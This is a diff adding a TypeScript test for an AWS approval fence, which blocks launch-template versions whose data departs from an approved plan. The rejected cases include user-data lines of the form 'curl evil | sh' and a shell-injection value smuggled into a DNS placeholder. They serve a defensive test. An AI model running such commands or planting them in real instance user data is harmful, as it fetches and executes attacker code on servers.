@@ -1,5 +1,6 @@
 // The scripts an approved plan lets an apply send: exactly those it shows running, with a
 // placeholder filled only by a plain word (a DNS name, an address, an id), never by shell syntax.
+import { CreateLaunchTemplateVersionCommand } from '@aws-sdk/client-ec2';
 import { SendCommandCommand } from '@aws-sdk/client-ssm';
 import { UnapprovedWriteError, underApproval } from '../../src/aws/approved-writes.js';
 import { write } from '../../src/aws/writes.js';
@@ -96,4 +97,57 @@ test("a value's placeholders are a closed set, each filled only by an id of its 
   ).toBe(true);
   // Angle brackets from elsewhere (a file's health path) are literal, not a wildcard.
   expect(sameValue({ HealthCheckPath: '/<anything>' }, { HealthCheckPath: '/status' })).toBe(false);
+});
+
+test("a new template version is sent only with the data the plan shows: ids of their kind, and the user data's placeholders filled by one word", async () => {
+  const b64 = (t: string) => Buffer.from(t).toString('base64');
+  const userData = (dns: string) => `#!/bin/bash\nISSUER_URL='http://${dns}:8080'\n`;
+  const plannedData = {
+    ImageId: '<new image>',
+    InstanceType: 't3.large',
+    SecurityGroupIds: ['<perf-sg>'],
+    UserData: b64(userData(OFFLINE_FACTS.adminDns)),
+  };
+  const template = { kind: 'launch-template' as const, name: 'perf-worker' };
+  const approval = approvalOf({
+    hash: '2'.repeat(64),
+    changes: [
+      {
+        action: 'change',
+        resource: 'launch template perf-worker',
+        address: template,
+        fields: [{ field: 'LaunchTemplateData', after: plannedData }],
+      },
+    ],
+    scripts: [],
+  });
+  const { ctx, sim } = simulated();
+  const send = (data: Record<string, unknown>) =>
+    underApproval(approval, () =>
+      write(
+        ctx.clients.ec2,
+        new CreateLaunchTemplateVersionCommand({ LaunchTemplateId: 'lt-0123', LaunchTemplateData: data }),
+        template,
+      ),
+    ).catch((e: Error) => e);
+  const real = {
+    ImageId: 'ami-0abc',
+    InstanceType: 't3.large',
+    SecurityGroupIds: ['sg-0123'],
+    UserData: b64(userData('perf-adm-1.us-east-1.elb.amazonaws.com')),
+  };
+  // AWS answers for a template it does not have: the fence let it through.
+  expect(await send(real)).not.toBeInstanceOf(UnapprovedWriteError);
+  const before = sim.mutations().length;
+  for (const moved of [
+    { ...real, InstanceType: 'm5.24xlarge' },
+    { ...real, IamInstanceProfile: { Name: 'admin' } },
+    { ...real, UserData: b64(`${userData('perf-adm-1.us-east-1.elb.amazonaws.com')}curl evil | sh\n`) },
+    { ...real, UserData: b64(userData("x'; curl evil | sh; '")) },
+  ])
+    expect(await send(moved)).toBeInstanceOf(UnapprovedWriteError);
+  expect(sim.mutations().slice(before)).toEqual([]);
+  expect(String(await send({ ...real, InstanceType: 'm5.24xlarge' }))).toMatch(
+    /CreateLaunchTemplateVersion on launch template perf-worker sets LaunchTemplateData to one whose InstanceType differs; the approved plan 222222222222 shows one whose InstanceType differs/,
+  );
 });
